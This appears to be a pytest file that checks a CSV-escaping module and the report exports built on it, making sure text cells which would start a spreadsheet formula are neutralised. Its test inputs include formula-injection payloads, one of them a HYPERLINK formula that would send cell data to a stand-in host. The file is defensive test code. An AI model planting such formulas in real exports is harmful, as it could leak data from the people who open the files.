"""Every CSV lookalike writes opens in a spreadsheet as data: a text cell that would start a formula
(=, +, -, @, tab, carriage return) is prefixed with a single quote, numbers stay numbers.

The files are read back with Python's csv module, as a reviewer's script would."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from lookalike import csvsafe
from lookalike.scan.duplicates import Group
from lookalike.scan.report import write_duplicates_report, write_scan_report
from lookalike.scan.scan import ScanRow
from lookalike.store import Item
from lookalike.usecases import ingest, policies, review
from lookalike.workflow import FlagStatus
from tests.unit.test_policies import make_context, plant

HYPERLINK = '=HYPERLINK("http://127.0.0.1:1/?"&A1,"x")'
PAYLOADS = [HYPERLINK, "@SUM(1+1)", "+1+1", "-2+3", "\t=1+1", "\r=1+1", '=HYPERLINK("http://x")']
LABEL = '=HYPERLINK("http://x")'


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def is_inert(text: str) -> bool:
    """A cell no spreadsheet evaluates: text that starts no formula, or a plain number (a score)."""
    try:
        float(text)
    except ValueError:
        return not text.startswith(csvsafe.FORMULA_STARTS)
    return True


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_cell_that_would_start_a_formula_gets_a_leading_quote(payload: str) -> None:
    assert csvsafe.cell(payload) == "'" + payload


@pytest.mark.parametrize("text", ["ana", "a toy, not the thing", "", "1+1", "'quoted", "x=1", "sku-12"])
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert csvsafe.cell(text) == text


def test_numbers_stay_numbers_and_unquoted_so_a_negative_score_is_no_formula() -> None:
    buffer = io.StringIO()
    writer = csvsafe.Writer(buffer)
    writer.writerow(["-0.25", -0.25, 7, None, True])
    assert buffer.getvalue() == '"\'-0.25",-0.25,7,"",True\r\n'
    # The semicolon a spreadsheet may split on stays inside the quoted text cell.
    buffer = io.StringIO()
    csvsafe.Writer(buffer).writerow(["a;=1+1"])
    assert buffer.getvalue() == '"a;=1+1"\r\n'


def test_a_dict_writer_refuses_a_field_it_was_not_given() -> None:
    writer = csvsafe.DictWriter(io.StringIO(), ["a"])
    with pytest.raises(ValueError, match="'b'"):
        writer.writerow({"a": 1, "b": 2})


def hostile_item(number: int, text: str) -> Item:
    return Item(number, "0" * 64, text, "name", text, 1_700_000_000, text, 10, 10, box=text)


def test_scan_reports_neutralise_every_text_cell_and_keep_negative_scores_numeric(tmp_path: Path) -> None:
    rows = [
        ScanRow(hostile_item(i, payload), LABEL, -0.125, {LABEL: -0.125}, ())
        for i, payload in enumerate(PAYLOADS)
    ]
    path = tmp_path / "scan.csv"
    assert write_scan_report(path, rows, [LABEL], {}) == len(PAYLOADS)
    read_back = read(path)
    assert [(r["item_id"], r["source"], r["uri"], r["label"]) for r in read_back] == [
        ("'" + p, "'" + p, "'" + p, "'" + LABEL) for p in PAYLOADS
    ]
    assert {r["score"] for r in read_back} == {"-0.125"}  # a number, not a text cell
    assert list(read_back[0])[-1] == "score_" + LABEL  # the header is text too, and starts harmlessly
    assert ",-0.125," in path.read_text(encoding="utf-8").splitlines()[1]  # written bare, as a number
    assert all(is_inert(value) for row in read_back for value in row.values())


def test_duplicate_reports_neutralise_every_text_cell(tmp_path: Path) -> None:
    items = [hostile_item(i, payload) for i, payload in enumerate(PAYLOADS)]
    group = Group("near", items, [1.0] + [-0.5] * (len(items) - 1), crops=[hostile_item(99, "@SUM(1+1)")])
    path = tmp_path / "duplicates.csv"
    assert write_duplicates_report(path, [group], {}) == 1
    read_back = read(path)
    assert [r["item_id"] for r in read_back] == ["'" + p for p in PAYLOADS] + ["'@SUM(1+1)"]
    assert read_back[-1]["box"] == "'@SUM(1+1)" and read_back[1]["score"] == "-0.5"
    assert all(is_inert(value) for row in read_back for value in row.values())


def test_the_audit_export_neutralises_reviewers_notes_and_policy_labels(tmp_path: Path) -> None:
    ctx = make_context(tmp_path)
    labels = tmp_path / "hostile.toml"
    labels.write_text(
        '[labels.\'=HYPERLINK("http://x")\']\nprompts = ["a prohibited thing"]\nthreshold = 0.95\n',
        encoding="utf-8",
    )
    policies.add(ctx, str(labels), "hostile")
    plant(tmp_path / "photos")
    ingest.index(ctx, str(tmp_path / "photos"))
    first, second, third = (row.flag.id for row in review.flags(ctx)[1])
    review.review(ctx, first, FlagStatus.DISMISSED, reviewer=HYPERLINK, note="+1+1")
    review.review(ctx, second, FlagStatus.DISMISSED, reviewer="@SUM(1+1)", note="-2+3")
    review.review(ctx, third, FlagStatus.CONFIRMED, reviewer="ana", note="plain")
    out = tmp_path / "audit.csv"
    assert review.export_audit(ctx, str(out)) == 3
    rows = read(out)
    assert [(r["reviewer"], r["note"], r["label"]) for r in rows] == [
        ("'" + HYPERLINK, "'+1+1", "'" + LABEL),
        ("'@SUM(1+1)", "'-2+3", "'" + LABEL),
        ("ana", "plain", "'" + LABEL),
    ]
    assert [r["flag"] for r in rows] == [str(first), str(second), str(third)]
    assert all(is_inert(value) for row in rows for value in row.values())
    ctx.close()
